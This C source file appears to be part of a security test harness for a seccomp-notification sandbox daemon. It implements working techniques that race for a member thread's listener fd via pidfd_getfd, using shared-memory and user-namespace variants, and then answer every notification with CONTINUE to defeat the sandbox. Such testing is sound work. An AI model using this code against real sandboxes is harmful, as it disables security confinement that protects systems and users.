// attack: taking the daemon's listener during a member's first restriction.
// The listener exists, for a few microseconds, in the table of a private
// thread W of the member (clone without CLONE_FILES); the member is made
// non-dumpable meanwhile, so that only CAP_SYS_PTRACE over the member's
// memory (its mm's user namespace) may pidfd_getfd it. A thief watches
// /proc/M/task for W and tries pidfd_getfd(W, fd) on every fd number it may
// get, serving with CONTINUE whatever listener it finds.
//
//   mmsteal [dumpable]   a thief process sharing the member's memory
//                        (clone(CLONE_VM) without CLONE_THREAD: not a thread
//                        of the member, never stopped by the daemon); with
//                        "dumpable" it keeps calling prctl(PR_SET_DUMPABLE, 1),
//                        which sets the flag of the memory it shares with the
//                        member. Prints "mmsteal PID".
//   steal PID            a thief process (forked, its own memory) on member PID
//   nsmember             fork a member in a user namespace of our own (it
//                        execs `attack serve` there: uid 0 of the namespace,
//                        its memory belongs to the namespace), print
//                        "nsmember PID", then become the thief on it: as the
//                        namespace's owner we hold CAP_SYS_PTRACE over it
//   thiefstat            the thief's counters (shared memory: mmsteal only)
//
// The thief uses raw system calls only (mmsteal's shares the member's TLS:
// no errno, no libc state).
#include "attack.h"

#include <sched.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#define PIDFD_THREAD_FLAG O_EXCL

static long rsys(long n, long a, long b, long c, long d) {
  long ret;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return ret;
}

struct thief {
  int member;
  int dumpable;          // keep prctl(PR_SET_DUMPABLE, 1) going
  volatile long seen;    // private threads seen
  volatile long eperm;   // pidfd_getfd refused
  volatile long taken;   // fds taken from a private thread
  volatile long stolen;  // listeners among them
};

static struct thief shared_thief;

static char* put_num(char* p, long v) {
  char tmp[24];
  int n = 0;
  do {
    tmp[n++] = (char)('0' + v % 10);
    v /= 10;
  } while (v);
  while (n) *p++ = tmp[--n];
  *p = 0;
  return p;
}

static int is_listener_fd(int fd) {
  char path[64] = "/proc/self/fd/";
  put_num(path + strlen("/proc/self/fd/"), fd);
  char link[128];
  const long n = rsys(SYS_readlink, (long)path, (long)link, sizeof link - 1, 0);
  if (n <= 0) return 0;
  link[n] = 0;
  return strstr(link, "seccomp notify") != NULL;
}

// Answers every notification with CONTINUE: the member's denied calls run.
static void serve_continue(int fd) {
  for (;;) {
    unsigned char req[512], resp[512];
    memset(req, 0, sizeof req);
    if (rsys(SYS_ioctl, fd, SECCOMP_IOCTL_NOTIF_RECV, (long)req, 0) != 0) continue;
    memset(resp, 0, sizeof resp);
    struct seccomp_notif_resp* r = (struct seccomp_notif_resp*)resp;
    r->id = ((struct seccomp_notif*)req)->id;
    r->flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    (void)rsys(SYS_ioctl, fd, SECCOMP_IOCTL_NOTIF_SEND, (long)resp, 0);
  }
}

static int thief_loop(void* arg) {
  struct thief* t = arg;
  char path[64] = "/proc/";
  char* p = put_num(path + 6, t->member);
  memcpy(p, "/task", 6);
  const long dir = rsys(SYS_open, (long)path, O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0, 0);
  if (dir < 0) rsys(SYS_exit_group, 3, 0, 0, 0);
  for (;;) {
    if (t->dumpable) rsys(SYS_prctl, PR_SET_DUMPABLE, 1, 0, 0);
    rsys(SYS_lseek, dir, 0, SEEK_SET, 0);
    char buf[2048];
    const long n = rsys(SYS_getdents64, dir, (long)buf, sizeof buf, 0);
    if (n < 0) rsys(SYS_exit_group, 4, 0, 0, 0);  // the member is gone
    long w = 0;
    for (long off = 0; off < n;) {
      const char* name = buf + off + 19;  // struct linux_dirent64: d_name after ino, off, reclen, type
      const unsigned short reclen = *(const unsigned short*)(buf + off + 16);
      long v = 0;
      int digits = 1;
      for (const char* c = name; *c; ++c) {
        if (*c < '0' || *c > '9') digits = 0;
        v = v * 10 + (*c - '0');
      }
      if (digits && v != t->member) w = v;
      off += reclen;
    }
    if (!w) continue;
    ++t->seen;
    const long pfd = rsys(SYS_pidfd_open, w, PIDFD_THREAD_FLAG, 0, 0);
    if (pfd < 0) continue;
    for (int tries = 0; tries < 200000; ++tries) {
      if (t->dumpable) rsys(SYS_prctl, PR_SET_DUMPABLE, 1, 0, 0);
      int gone = 0;
      for (int fd = 3; fd < 16; ++fd) {
        const long g = rsys(SYS_pidfd_getfd, pfd, fd, 0, 0);
        if (g == -ESRCH) gone = 1;
        if (g == -EPERM) ++t->eperm;
        if (g < 0) continue;
        ++t->taken;
        if (is_listener_fd((int)g)) {
          ++t->stolen;
          serve_continue((int)g);
        }
        rsys(SYS_close, g, 0, 0, 0);
      }
      if (gone) break;
    }
    rsys(SYS_close, pfd, 0, 0, 0);
  }
  return 0;
}

void mmsteal(int dumpable) {
  static char stack[256 * 1024] __attribute__((aligned(16)));
  shared_thief.member = getpid();
  shared_thief.dumpable = dumpable;
  const int c = clone(thief_loop, stack + sizeof stack, CLONE_VM | SIGCHLD, &shared_thief);
  if (c < 0)
    say("mmsteal %s", en(errno));
  else
    say("mmsteal %d", c);
}

void thiefstat(void) {
  say("thiefstat seen=%ld eperm=%ld taken=%ld stolen=%ld", shared_thief.seen, shared_thief.eperm, shared_thief.taken,
      shared_thief.stolen);
}

void steal(int pid) {
  const pid_t c = fork();
  if (c < 0) {
    say("steal %s", en(errno));
    return;
  }
  if (c == 0) {
    struct thief t = {.member = pid};
    thief_loop(&t);
    _exit(0);
  }
  say("steal %d", c);
}

static int write_text(const char* path, const char* text) {
  const int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return errno;
  const ssize_t n = write(fd, text, strlen(text));
  const int e = n == (ssize_t)strlen(text) ? 0 : errno;
  close(fd);
  return e;
}

int nsmember(void) {
  const uid_t uid = getuid();
  const gid_t gid = getgid();
  int sync[2];
  if (pipe2(sync, O_CLOEXEC) != 0) {
    say("nsmember %s", en(errno));
    return 1;
  }
  const pid_t c = fork();
  if (c < 0) {
    say("nsmember %s", en(errno));
    return 1;
  }
  if (c == 0) {
    close(sync[0]);
    char map[64];
    int e = unshare(CLONE_NEWUSER) ? errno : 0;
    if (!e) e = write_text("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
    if (!e) e = write_text("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
    if (!e) e = write_text("/proc/self/gid_map", map);
    (void)!write(sync[1], &e, sizeof e);
    if (e) _exit(1);
    setenv("ATTACK_KEEP_PGRP", "1", 1);
    execl("/proc/self/exe", "attack", "serve", (char*)NULL);
    _exit(127);
  }
  close(sync[1]);
  int e = EIO;
  if (read(sync[0], &e, sizeof e) != sizeof e) e = EIO;
  close(sync[0]);
  if (e) {
    say("nsmember setup %s", en(e));
    return 1;
  }
  say("nsmember %d", c);
  struct thief t = {.member = c};
  return thief_loop(&t);
}

void dropcaps(void) {
  struct {
    uint32_t version;
    int pid;
  } hdr = {0x20080522, 0};  // _LINUX_CAPABILITY_VERSION_3
  uint32_t data[6] = {0};
  say("dropcaps %s", en(err_of(syscall(SYS_capset, &hdr, data))));
}
